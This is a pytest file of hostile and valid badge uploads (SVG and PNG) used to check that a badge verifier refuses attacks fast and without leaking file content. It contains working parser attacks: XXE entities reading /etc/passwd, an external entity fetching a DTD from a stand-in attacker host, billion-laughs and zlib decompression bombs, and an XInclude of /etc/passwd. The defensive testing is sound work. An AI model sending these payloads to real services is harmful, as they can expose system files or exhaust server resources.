"""Hostile and valid badge files, all built in code, against badge.verify.check."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import random
import re
import struct
import time
import tracemalloc
import zlib
from collections.abc import Callable

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from PIL import Image

from badge.errors import BadgeError, PayloadTooLarge, Unprocessable, UnsupportedMediaType
from badge.render.baking import ELEMENT, NAMESPACE, PNG_KEYWORD, PREFIX
from badge.verify.check import (
    MAX_UPLOAD_BYTES,
    NOT_FOUND_MESSAGE,
    SCREENSHOT_MESSAGE,
    extract_token,
    looks_like_jws,
    sniff_kind,
)

# Safety bounds, not benchmarks: every case takes milliseconds and a few hundred KB at most.
# The memory bound is what catches an unbounded inflate of a 10 MB bomb, which is still fast.
FAST = 0.5
SMALL = 1024 * 1024


def peak_memory(data: bytes, content_type: str | None) -> int:
    """Peak bytes allocated while extracting, not counting the upload itself."""
    tracemalloc.start()
    try:
        with contextlib.suppress(BadgeError):
            extract_token(data, content_type)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _make_token() -> str:
    header = _b64(json.dumps({"alg": "EdDSA", "kid": "test-1", "typ": "JWT"}).encode())
    payload = _b64(json.dumps({"sub": "shp_Zx81kQ", "iat": 1767225600}).encode())
    key = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
    signature = _b64(key.sign(f"{header}.{payload}".encode()))
    return f"{header}.{payload}.{signature}"


TOKEN = _make_token()
SVG_OPEN = (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:{PREFIX}="{NAMESPACE}" width="88" height="31">'
)
ASSERTION = f"<{PREFIX}:{ELEMENT}><![CDATA[{TOKEN}]]></{PREFIX}:{ELEMENT}>"
ARTWORK = '<rect width="88" height="31" fill="#2e7d32"/><text x="8" y="20">Keurmerk</text>'


def svg(body: str = ARTWORK, *, prolog: str = "", assertion: str = ASSERTION) -> bytes:
    return f"{prolog}{SVG_OPEN}{assertion}{body}</svg>".encode()


def chunk(ctype: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", zlib.crc32(ctype + body))


def itxt(text: bytes, *, compressed: bool = False, keyword: str = PNG_KEYWORD) -> bytes:
    if compressed:
        text = zlib.compress(text, 9)
    flag = b"\1\0" if compressed else b"\0\0"
    return chunk(b"iTXt", keyword.encode() + b"\0" + flag + b"\0\0" + text)


def base_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (88, 31), (46, 125, 50, 255)).save(out, format="PNG")
    return out.getvalue()


def png(*chunks: bytes) -> bytes:
    """A real Pillow PNG with our chunks inserted right after IHDR (8 + 25 bytes)."""
    plain = base_png()
    return plain[:33] + b"".join(chunks) + plain[33:]


def baked_png() -> bytes:
    return png(itxt(TOKEN.encode()))


def bare_png(width: int, height: int, *chunks: bytes) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + b"".join(chunks) + chunk(b"IEND", b"")


def use_bomb(assertion: str = "") -> bytes:
    """About 1 KB: ten levels of four-way <use> fan-out, a million shapes if ever rendered."""
    levels = ['<g id="a"><path d="M0 0h9v9H0z"/></g>']
    for level in range(1, 11):
        uses = f'<use xlink:href="#{chr(96 + level)}"/>' * 4
        levels.append(f'<g id="{chr(97 + level)}">{uses}</g>')
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:{PREFIX}="{NAMESPACE}">{assertion}<defs>{"".join(levels)}</defs>'
        f'<use xlink:href="#k"/></svg>'
    ).encode()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    return svg(
        prolog=f'<?xml version="1.0"?>\n<!DOCTYPE svg [{"".join(entities)}]>\n',
        assertion=f"<{PREFIX}:{ELEMENT}>&lol9;</{PREFIX}:{ELEMENT}>",
    )


def corrupt_token_byte(data: bytes) -> bytes:
    """Flip one byte inside the baked token, leaving the chunk's stored CRC as it was."""
    at = data.index(TOKEN.encode()) + 10
    return data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1 :]


HOSTILE: list[object] = [
    # XML attacks: each one needs a DTD, and any DTD is refused before it is read.
    pytest.param(
        lambda: svg(
            prolog='<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            assertion=f"<{PREFIX}:{ELEMENT}>&xxe;</{PREFIX}:{ELEMENT}>",
        ),
        None,
        Unprocessable,
        "DTD",
        id="svg-xxe-file-etc-passwd",
    ),
    pytest.param(billion_laughs, None, Unprocessable, "DTD", id="svg-billion-laughs"),
    pytest.param(
        lambda: svg(
            prolog=f'<!DOCTYPE svg [<!ENTITY a "{"a" * 50_000}">]>',
            body="<text>" + "&a;" * 8_000 + "</text>",
        ),
        None,
        Unprocessable,
        "DTD",
        id="svg-quadratic-blowup",
    ),
    pytest.param(
        lambda: svg(
            prolog='<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC '
            '"-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        ),
        None,
        Unprocessable,
        "DTD",
        id="svg-external-dtd",
    ),
    pytest.param(
        lambda: svg(
            prolog='<!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://attacker.invalid/x.dtd"> %ext;]>'
        ),
        None,
        Unprocessable,
        "DTD",
        id="svg-external-parameter-entity",
    ),
    pytest.param(
        lambda: (
            "\ufeff"
            + svg(
                prolog='<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
                assertion=f"<{PREFIX}:{ELEMENT}>&xxe;</{PREFIX}:{ELEMENT}>",
            ).decode()
        ).encode("utf-16-le"),
        None,
        Unprocessable,
        "DTD",
        id="svg-xxe-in-utf16",
    ),
    pytest.param(
        lambda: svg(assertion=f"<{PREFIX}:{ELEMENT}>&xxe;</{PREFIX}:{ELEMENT}>"),
        None,
        Unprocessable,
        "not well-formed",
        id="svg-undeclared-entity",
    ),
    # Size and shape bombs.
    pytest.param(use_bomb, None, Unprocessable, NOT_FOUND_MESSAGE, id="svg-use-bomb-1kb"),
    pytest.param(
        lambda: use_bomb().replace(b"</defs>", b"<defs>" + b"<g/>" * 5_000 + b"</defs></defs>"),
        None,
        Unprocessable,
        "elements",
        id="svg-use-bomb-padded-past-element-limit",
    ),
    pytest.param(
        lambda: svg(body="<g>" * 10_000 + "</g>" * 10_000),
        None,
        Unprocessable,
        "deep",
        id="svg-nested-10k-deep",
    ),
    pytest.param(
        lambda: svg(body="<g/>" * 10_000), None, Unprocessable, "elements", id="svg-10k-elements"
    ),
    pytest.param(
        lambda: svg(body=f"<!--{'x' * MAX_UPLOAD_BYTES}-->"),
        "image/svg+xml",
        PayloadTooLarge,
        "513 KB; badge files are a few KB and uploads are limited to 512 KB",
        id="svg-over-the-limit",
    ),
    pytest.param(
        lambda: bytes(20 * 1024 * 1024), None, PayloadTooLarge, "512 KB", id="20mb-of-zeros"
    ),
    pytest.param(
        lambda: svg(assertion=f"<{PREFIX}:{ELEMENT}>{'A' * 100_000}</{PREFIX}:{ELEMENT}>"),
        None,
        Unprocessable,
        "too long",
        id="svg-100kb-assertion",
    ),
    # Malformed or mislabelled SVG.
    pytest.param(
        lambda: SVG_OPEN.encode() + b"<text>\xff\xfe\xc3\x28 garbage</text></svg>",
        None,
        Unprocessable,
        "not well-formed",
        id="svg-non-utf8-garbage",
    ),
    pytest.param(lambda: svg()[:-40], None, Unprocessable, "not well-formed", id="svg-truncated"),
    pytest.param(
        lambda: (
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
            + svg()
            + b"</body></html>"
        ),
        "image/svg+xml",
        Unprocessable,
        "not an SVG",
        id="xhtml-with-xml-declaration",
    ),
    pytest.param(
        lambda: svg().replace(b"http://www.w3.org/2000/svg", b"http://attacker.invalid/svg"),
        None,
        Unprocessable,
        "not an SVG",
        id="svg-root-in-wrong-namespace",
    ),
    pytest.param(
        lambda: b"<!DOCTYPE html><html><body>" + svg() + b"</body></html>",
        "image/svg+xml",
        UnsupportedMediaType,
        "HTML",
        id="html-pretending-to-be-svg",
    ),
    pytest.param(
        lambda: b"<html><head><title>badge</title></head><body>" + svg() + b"</body></html>",
        "image/svg+xml",
        UnsupportedMediaType,
        "HTML",
        id="html-without-doctype",
    ),
    # The assertion itself.
    pytest.param(
        lambda: svg().replace(NAMESPACE.encode(), b"https://attacker.invalid/ns/keurmerk-badge/1"),
        None,
        Unprocessable,
        NOT_FOUND_MESSAGE,
        id="svg-assertion-wrong-namespace",
    ),
    pytest.param(
        lambda: svg(assertion=f"<{ELEMENT}>{TOKEN}</{ELEMENT}>"),
        None,
        Unprocessable,
        NOT_FOUND_MESSAGE,
        id="svg-assertion-no-namespace",
    ),
    pytest.param(
        lambda: svg(assertion=ASSERTION * 2),
        None,
        Unprocessable,
        "more than one",
        id="svg-two-assertions",
    ),
    pytest.param(
        lambda: svg(body=f"<g>{ASSERTION}</g>", assertion=""),
        None,
        Unprocessable,
        "directly inside",
        id="svg-assertion-nested-in-g",
    ),
    pytest.param(
        lambda: svg(assertion=f"<{PREFIX}:{ELEMENT}><b>{TOKEN}</b></{PREFIX}:{ELEMENT}>"),
        None,
        Unprocessable,
        "unexpected markup",
        id="svg-assertion-with-markup",
    ),
    pytest.param(
        lambda: svg(assertion=f"<{PREFIX}:{ELEMENT}>not.a token</{PREFIX}:{ELEMENT}>"),
        None,
        Unprocessable,
        "valid signature",
        id="svg-assertion-not-a-jws",
    ),
    pytest.param(
        lambda: svg(assertion=f"<{PREFIX}:{ELEMENT}/>"),
        None,
        Unprocessable,
        "valid signature",
        id="svg-assertion-empty",
    ),
    pytest.param(lambda: svg(assertion=""), None, Unprocessable, NOT_FOUND_MESSAGE, id="svg-plain"),
    # PNG.
    pytest.param(
        lambda: png(itxt(bytes(10 * 1024 * 1024), compressed=True)),
        "image/png",
        Unprocessable,
        "expands far beyond",
        id="png-zlib-bomb-in-itxt",
    ),
    pytest.param(
        lambda: png(chunk(b"zTXt", PNG_KEYWORD.encode() + b"\0\0" + zlib.compress(bytes(10**7)))),
        "image/png",
        Unprocessable,
        "expands far beyond",
        id="png-zlib-bomb-in-ztxt",
    ),
    pytest.param(
        lambda: png(chunk(b"iTXt", b"keurmerk\0\1\0\0\0" + zlib.compress(TOKEN.encode())[:-6])),
        "image/png",
        Unprocessable,
        "cut-off compression",
        id="png-itxt-cut-off-zlib",
    ),
    pytest.param(
        lambda: png(chunk(b"iTXt", b"keurmerk\0\1\0\0\0this is not zlib")),
        "image/png",
        Unprocessable,
        "bad compression",
        id="png-itxt-not-zlib",
    ),
    pytest.param(
        lambda: baked_png()[: len(baked_png()) // 2],
        "image/png",
        Unprocessable,
        "truncated",
        id="png-truncated",
    ),
    pytest.param(
        lambda: b"\x89PNG\r\n\x1a\n",
        "image/png",
        Unprocessable,
        "truncated",
        id="png-signature-only",
    ),
    pytest.param(
        lambda: b"\x89PNG\r",
        "image/png",
        UnsupportedMediaType,
        "neither",
        id="png-cut-in-signature",
    ),
    pytest.param(
        lambda: corrupt_token_byte(baked_png()),
        "image/png",
        Unprocessable,
        "bad checksum in its iTXt",
        id="png-bad-crc",
    ),
    pytest.param(
        lambda: png(itxt(TOKEN.encode()), itxt(TOKEN.encode(), compressed=True)),
        "image/png",
        Unprocessable,
        "more than one",
        id="png-two-keurmerk-chunks",
    ),
    pytest.param(
        lambda: png(itxt(TOKEN.encode()), chunk(b"tEXt", PNG_KEYWORD.encode() + b"\0" + b"x.y.z")),
        "image/png",
        Unprocessable,
        "more than one",
        id="png-itxt-and-text-chunks",
    ),
    pytest.param(
        lambda: bare_png(100_000, 100_000, itxt(TOKEN.encode())),
        "image/png",
        Unprocessable,
        "100000x100000",
        id="png-ihdr-100000px",
    ),
    pytest.param(
        lambda: b"\x89PNG\r\n\x1a\n" + itxt(TOKEN.encode()) + chunk(b"IEND", b""),
        "image/png",
        Unprocessable,
        "header chunk",
        id="png-without-ihdr",
    ),
    pytest.param(
        lambda: png(*[chunk(b"tEXt", b"Comment\0x")] * 1_500),
        "image/png",
        Unprocessable,
        "chunks",
        id="png-1500-chunks",
    ),
    pytest.param(
        lambda: png(struct.pack(">I4s", 0xFFFFFFF0, b"iTXt") + b"keurmerk\0"),
        "image/png",
        Unprocessable,
        "truncated",
        id="png-huge-chunk-length",
    ),
    pytest.param(
        lambda: png(b"\0\0\0\x04\x00\xff\x10\x13abcd\0\0\0\0"),
        "image/png",
        Unprocessable,
        "garbled",
        id="png-garbled-chunk-type",
    ),
    pytest.param(
        lambda: png(itxt(b"\xff\xfe not utf-8")),
        "image/png",
        Unprocessable,
        "UTF-8",
        id="png-itxt-not-utf8",
    ),
    pytest.param(
        lambda: png(itxt(b"hello world")),
        "image/png",
        Unprocessable,
        "valid signature",
        id="png-itxt-not-a-jws",
    ),
    pytest.param(
        base_png, "image/png", Unprocessable, re.escape(SCREENSHOT_MESSAGE), id="png-plain"
    ),
    # Neither PNG nor SVG.
    pytest.param(
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(500),
        "image/jpeg",
        UnsupportedMediaType,
        "JPEG",
        id="jpeg-header",
    ),
    pytest.param(
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(500),
        "image/png",
        UnsupportedMediaType,
        "JPEG",
        id="jpeg-sent-as-png",
    ),
    pytest.param(
        lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", None, UnsupportedMediaType, "GIF", id="gif"
    ),
    pytest.param(
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", None, UnsupportedMediaType, "PDF", id="pdf"
    ),
    pytest.param(lambda: b"", "image/png", UnsupportedMediaType, "empty", id="empty-bytes"),
    pytest.param(
        lambda: random.Random(20260501).randbytes(4096),
        "image/svg+xml",
        UnsupportedMediaType,
        "sent as image/svg\\+xml",
        id="random-bytes",
    ),
    pytest.param(
        lambda: b"   \n\t  ", "image/svg+xml", UnsupportedMediaType, "neither", id="whitespace-only"
    ),
]

VALID: list[object] = [
    pytest.param(svg, "image/svg+xml", id="svg"),
    pytest.param(
        lambda: svg(
            prolog='<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand <svg> -->\n'
            '<?xml-stylesheet href="http://attacker.invalid/x.css" type="text/css"?>\n'
            "<!-- another -->\n"
        ),
        "image/svg+xml",
        id="svg-comments-and-pis-before-root",
    ),
    pytest.param(lambda: b"\xef\xbb\xbf" + svg(), None, id="svg-utf8-bom"),
    pytest.param(lambda: ("\ufeff" + svg().decode()).encode("utf-16-le"), None, id="svg-utf16-le"),
    pytest.param(
        lambda: ('\ufeff<?xml version="1.0" encoding="UTF-16"?>' + svg().decode()).encode(
            "utf-16-be"
        ),
        None,
        id="svg-utf16-be-declared",
    ),
    pytest.param(
        lambda: svg(
            assertion=f"<{PREFIX}:{ELEMENT}>\n  <![CDATA[\n{TOKEN}\n]]>\n</{PREFIX}:{ELEMENT}>"
        ),
        None,
        id="svg-token-with-whitespace",
    ),
    pytest.param(
        lambda: svg(assertion=f"<{PREFIX}:{ELEMENT}>{TOKEN}</{PREFIX}:{ELEMENT}>"),
        None,
        id="svg-token-without-cdata",
    ),
    pytest.param(
        lambda: svg(body=ARTWORK + ASSERTION, assertion=""), None, id="svg-assertion-not-first"
    ),
    pytest.param(
        lambda: svg(
            assertion=f'<k:{ELEMENT} xmlns:k="{NAMESPACE}"><![CDATA[{TOKEN}]]></k:{ELEMENT}>'
        ),
        None,
        id="svg-other-prefix-same-namespace",
    ),
    pytest.param(lambda: svg(), "image/png", id="svg-sent-as-png"),
    pytest.param(lambda: use_bomb(ASSERTION), None, id="svg-use-bomb-never-expanded"),
    pytest.param(
        lambda: svg(
            body='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            'href="file:///etc/passwd" parse="text"/>'
        ),
        None,
        id="svg-xinclude-never-followed",
    ),
    pytest.param(baked_png, "image/png", id="png-itxt"),
    pytest.param(
        lambda: png(itxt(TOKEN.encode(), compressed=True)), None, id="png-itxt-compressed"
    ),
    pytest.param(
        lambda: png(chunk(b"tEXt", PNG_KEYWORD.encode() + b"\0" + TOKEN.encode())),
        None,
        id="png-text",
    ),
    pytest.param(
        lambda: png(chunk(b"zTXt", PNG_KEYWORD.encode() + b"\0\0" + zlib.compress(TOKEN.encode()))),
        None,
        id="png-ztxt",
    ),
    pytest.param(
        lambda: png(
            chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(10**7))), itxt(TOKEN.encode())
        ),
        None,
        id="png-bomb-under-other-keyword-skipped",
    ),
    pytest.param(lambda: baked_png() + b"trailing junk", None, id="png-trailing-bytes"),
    pytest.param(baked_png, "image/svg+xml", id="png-sent-as-svg"),
]


@pytest.mark.parametrize(("build", "content_type", "error", "match"), HOSTILE)
def test_hostile_file_is_refused_fast(
    build: Callable[[], bytes],
    content_type: str | None,
    error: type[BadgeError],
    match: str,
) -> None:
    data = build()
    start = time.perf_counter()
    with pytest.raises(BadgeError) as caught:
        extract_token(data, content_type)
    elapsed = time.perf_counter() - start
    assert type(caught.value) is error, caught.value.message
    caught.match(match)
    assert elapsed < FAST, f"took {elapsed:.3f}s"
    assert peak_memory(data, content_type) < SMALL
    # Never echo file content (like a file:///etc/passwd expansion) back to the caller.
    assert "root:" not in caught.value.message
    assert TOKEN not in caught.value.message


@pytest.mark.parametrize(("build", "content_type"), VALID)
def test_valid_badge_yields_token_fast(
    build: Callable[[], bytes], content_type: str | None
) -> None:
    data = build()
    start = time.perf_counter()
    token = extract_token(data, content_type)
    elapsed = time.perf_counter() - start
    assert token == TOKEN
    assert elapsed < FAST, f"took {elapsed:.3f}s"
    assert peak_memory(data, content_type) < SMALL


def test_test_pngs_are_real_pngs() -> None:
    """Guards the corpus builder: Pillow reads our baked chunk the way we meant it."""
    with Image.open(io.BytesIO(png(itxt(TOKEN.encode(), compressed=True)))) as image:
        image.load()
        assert image.size == (88, 31)
        assert image.info[PNG_KEYWORD] == TOKEN


def test_upload_limit_is_inclusive() -> None:
    filler = MAX_UPLOAD_BYTES - len(svg(body="<!---->"))
    at_limit = svg(body=f"<!--{'x' * filler}-->")
    assert len(at_limit) == MAX_UPLOAD_BYTES
    assert extract_token(at_limit) == TOKEN
    with pytest.raises(PayloadTooLarge):
        extract_token(at_limit + b" ")


@pytest.mark.parametrize(
    ("data", "content_type", "kind"),
    [
        pytest.param(b"\x89PNG\r\n\x1a\n", None, "png", id="png-signature"),
        pytest.param(b"\x89PNG\r\n\x1a\n", "image/svg+xml", "png", id="png-bytes-beat-header"),
        pytest.param(b"<svg/>", None, "svg", id="bare-svg"),
        pytest.param(b"  \n<svg\n>", "image/png", "svg", id="svg-bytes-beat-header"),
        pytest.param(b'<?xml version="1.0"?><anything/>', None, "svg", id="xml-declaration"),
        pytest.param(b"<!-- c --><?pi x?><svg>", None, "svg", id="comment-and-pi"),
        pytest.param(b"<?php echo 1; ?><svg/>", None, "svg", id="any-pi-then-svg"),
        pytest.param(b"<!DOCTYPE svg><svg/>", None, "svg", id="svg-doctype"),
        pytest.param(b"<s:svg xmlns:s='x'/>", None, "svg", id="prefixed-root"),
        pytest.param(b"\xef\xbb\xbf<svg/>", None, "svg", id="utf8-bom"),
        pytest.param("\ufeff<svg/>".encode("utf-16-be"), None, "svg", id="utf16-bom"),
    ],
)
def test_sniff_kind(data: bytes, content_type: str | None, kind: str) -> None:
    assert sniff_kind(data, content_type) == kind


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<svgx/>", id="svg-prefix-of-other-tag"),
        pytest.param(b"<!-- unterminated <svg>", id="unterminated-comment"),
        pytest.param(b"<!DOCTYPE html><svg/>", id="html-doctype"),
        pytest.param("<svg/>".encode("utf-16-le"), id="utf16-without-bom"),
    ],
)
def test_sniff_kind_refuses(data: bytes) -> None:
    with pytest.raises(UnsupportedMediaType):
        sniff_kind(data, None)


def test_refusal_never_echoes_a_strange_content_type() -> None:
    with pytest.raises(UnsupportedMediaType) as caught:
        sniff_kind(b"hello", "<script>alert(1)</script>")
    assert "script" not in caught.value.message
    with pytest.raises(UnsupportedMediaType, match=r"sent as image/webp"):
        sniff_kind(b"hello", "image/WebP; q=1")


@pytest.mark.parametrize(
    ("token", "ok"),
    [
        pytest.param(TOKEN, True, id="real-token"),
        pytest.param("eyJh.eyJi.c2ln", True, id="minimal"),
        pytest.param("eyJh.eyJi", False, id="two-segments"),
        pytest.param("eyJh.eyJi.c2ln.c2ln", False, id="four-segments"),
        pytest.param("eyJh..c2ln", False, id="empty-payload"),
        pytest.param("eyJh.eyJi.", False, id="empty-signature"),
        pytest.param("eyJh.eyJi.c2l+", False, id="plain-base64-char"),
        pytest.param("eyJh.eyJi.c2ln=", False, id="padding"),
        pytest.param("eyJh.eyJi.c2ln\n", False, id="trailing-newline"),
        pytest.param(" eyJh.eyJi.c2ln", False, id="leading-space"),
        pytest.param("eyJh.eyJi.c2lnZ", False, id="impossible-length"),
        pytest.param("eyJh.eyJi.ｃ2ln", False, id="fullwidth-letter"),
        pytest.param("eyJh.eyJi." + "A" * 8_192, False, id="over-8kb"),
        pytest.param("eyJh.eyJi." + "A" * (8_192 - 10), True, id="exactly-8kb"),
        pytest.param("", False, id="empty"),
    ],
)
def test_looks_like_jws(token: str, ok: bool) -> None:
    assert looks_like_jws(token) is ok
